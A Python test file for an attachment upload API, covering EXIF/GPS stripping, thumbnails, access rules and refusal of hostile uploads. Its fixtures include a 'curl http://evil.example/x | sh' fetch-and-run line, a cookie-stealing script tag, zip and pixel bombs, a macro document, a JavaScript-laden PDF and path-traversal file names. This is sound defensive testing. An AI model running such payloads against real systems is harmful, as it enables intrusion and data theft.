"""Attachments through the API: content checks, hostile uploads, EXIF/GPS stripped, who may read."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path

from PIL import Image

from tests.activitykit import docx, gps_jpeg, pdf, png, recorded, upload, uploaded


def test_a_photo_comes_back_reencoded_without_its_gps_and_with_a_thumbnail(as_user, fake_clock):
    original = gps_jpeg()
    assert Image.open(BytesIO(original)).getexif().get_ifd(0x8825)  # the GPS is really in the upload
    m1 = as_user("m1")
    meta = uploaded(m1, original, "IMG_2041.JPG")
    assert meta["content_type"] == "image/jpeg" and meta["kind"] == "image" and meta["has_thumbnail"]
    assert len(meta["id"]) >= 20 and meta["size"] > 0
    stored = m1.get(f"/api/attachments/{meta['id']}")
    assert stored.status_code == 200 and stored.mimetype == "image/jpeg"
    image = Image.open(BytesIO(stored.data))
    exif = image.getexif()
    assert not exif.get_ifd(0x8825) and 0x010F not in exif and b"PhoneMaker" not in stored.data
    assert image.size == (800, 600)
    thumb = m1.get(f"/api/attachments/{meta['id']}/thumbnail")
    assert thumb.status_code == 200 and thumb.mimetype == "image/jpeg"
    assert max(Image.open(BytesIO(thumb.data)).size) == 320
    # Unattached: only the uploader sees it; anyone else is told it does not exist.
    for other in ("m2", "sec1", "admin"):
        assert as_user(other).get(f"/api/attachments/{meta['id']}").status_code == 404
        assert as_user(other).get(f"/api/attachments/{meta['id']}/thumbnail").status_code == 404


def test_hostile_uploads_are_refused_with_the_reason(as_user, app):
    m1 = as_user("m1")
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    res = upload(m1, script, "holiday.jpg")
    assert res.status_code == 422 and res.get_json()["details"] == [{"field": "file", "message": "unsupported content"}]
    html = b"<html><script>alert(document.cookie)</script></html>"
    assert upload(m1, html, "photo.png").status_code == 422
    big = b"\xff\xd8\xff" + b"\0" * (5 * 1024 * 1024)
    res = upload(m1, big, "big.jpg")
    assert res.status_code == 422 and res.get_json()["details"][0]["message"] == "too large"
    # A zip bomb inside a .docx: a part of 60 MB of zeros compresses to ~60 KB.
    bomb = docx({"word/media/image1.png": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    res = upload(m1, bomb, "report.docx")
    assert res.status_code == 422 and res.get_json()["details"][0]["message"] in ("compression ratio",
                                                                                   "inflates too much")
    macro = docx({"word/vbaProject.bin": b"Attribute VB_Name"})
    assert upload(m1, macro, "report.docm").get_json()["details"][0]["message"] == "macros"
    not_office = BytesIO()
    with zipfile.ZipFile(not_office, "w") as z:
        z.writestr("payload.exe", b"MZ" + b"\0" * 100)
    assert upload(m1, not_office.getvalue(), "report.docx").status_code == 422
    res = upload(m1, pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "notice.pdf")
    assert res.status_code == 422 and res.get_json()["details"][0]["message"] == "active content /JavaScript"
    assert upload(m1, b"%PDF-1.4\n garbage", "cut.pdf").status_code == 422
    assert upload(m1, b"", "empty.jpg").status_code == 422
    # A decompression bomb image: 20000 x 20000 pixels declared.
    huge = BytesIO()
    Image.new("1", (20000, 20000)).save(huge, "PNG")
    res = upload(m1, huge.getvalue(), "huge.png")
    assert res.status_code == 422 and res.get_json()["details"][0]["message"] == "too many pixels"
    uploads = Path(app.config["VANGUARD"].uploads)
    assert not uploads.exists() or not any(p.is_file() for p in uploads.rglob("*"))


def test_path_tricks_in_names_are_only_names(as_user, app, tmp_path):
    m1 = as_user("m1")
    for name in ("../../../../etc/passwd.pdf", "..\\..\\boot.ini.pdf", "/tmp/evil.pdf", "a\x00b.pdf", "....pdf"):
        meta = uploaded(m1, pdf(), name)
        assert "/" not in meta["name"] and "\\" not in meta["name"] and "\x00" not in meta["name"]
        assert not meta["name"].startswith(".")
    uploads = Path(app.config["VANGUARD"].uploads)
    stored = sorted(p.name for p in uploads.rglob("*") if p.is_file())
    assert len(stored) == 5 and all("passwd" not in n and "evil" not in n and "boot" not in n for n in stored)
    assert not (tmp_path / "evil.pdf").exists()
    # Ids are not guessable and no path goes through them.
    assert m1.get("/api/attachments/..%2F..%2Fsecret_key").status_code == 404
    assert m1.get("/api/attachments/1").status_code == 404


def test_documents_and_pictures_of_every_accepted_kind(as_user):
    m1 = as_user("m1")
    word = uploaded(m1, docx(), "方案.docx")
    assert word["content_type"].endswith("wordprocessingml.document") and not word["has_thumbnail"]
    assert m1.get(f"/api/attachments/{word['id']}/thumbnail").status_code == 404
    got = m1.get(f"/api/attachments/{word['id']}")
    assert got.status_code == 200 and got.headers["Content-Disposition"].startswith("attachment;")
    assert uploaded(m1, pdf(), "总结.pdf")["content_type"] == "application/pdf"
    picture = uploaded(m1, png(), "chart.png")
    assert picture["content_type"] == "image/png" and picture["width"] == 64


def test_an_attached_photo_is_seen_by_who_may_see_the_record(as_user, fake_clock):
    m1 = as_user("m1")
    photo = uploaded(m1, gps_jpeg(), "deed.jpg")
    rec = recorded(m1, attachments=[photo["id"]])
    assert [a["id"] for a in rec["attachments"]] == [photo["id"]]
    for reader in ("m1", "sec1", "leader1", "admin"):
        assert as_user(reader).get(f"/api/attachments/{photo['id']}/thumbnail").status_code == 200, reader
    for stranger in ("m2", "sec2", "leader2", "contact1"):
        assert as_user(stranger).get(f"/api/attachments/{photo['id']}").status_code == 404, stranger
    # Someone else's upload cannot be attached to my record.
    other = uploaded(as_user("m2"), png(), "x.png")
    res = as_user("m1").post("/api/activities/records", json={
        "activity": "值勤", "activity_date": "2026-09-20", "hours": 1, "attachments": [other["id"]]})
    assert res.status_code == 422 and res.get_json()["details"][0]["field"] == "attachments"
